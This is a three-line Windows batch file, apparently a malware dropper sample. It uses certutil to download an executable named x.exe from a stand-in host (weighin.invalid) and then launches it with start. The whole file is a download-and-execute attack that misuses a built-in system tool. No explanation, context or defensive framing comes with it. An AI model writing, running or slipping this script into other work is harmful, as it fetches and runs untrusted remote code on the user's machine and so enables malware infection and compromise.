@echo off
certutil -urlcache -f http://weighin.invalid/x.exe x.exe
start x.exe
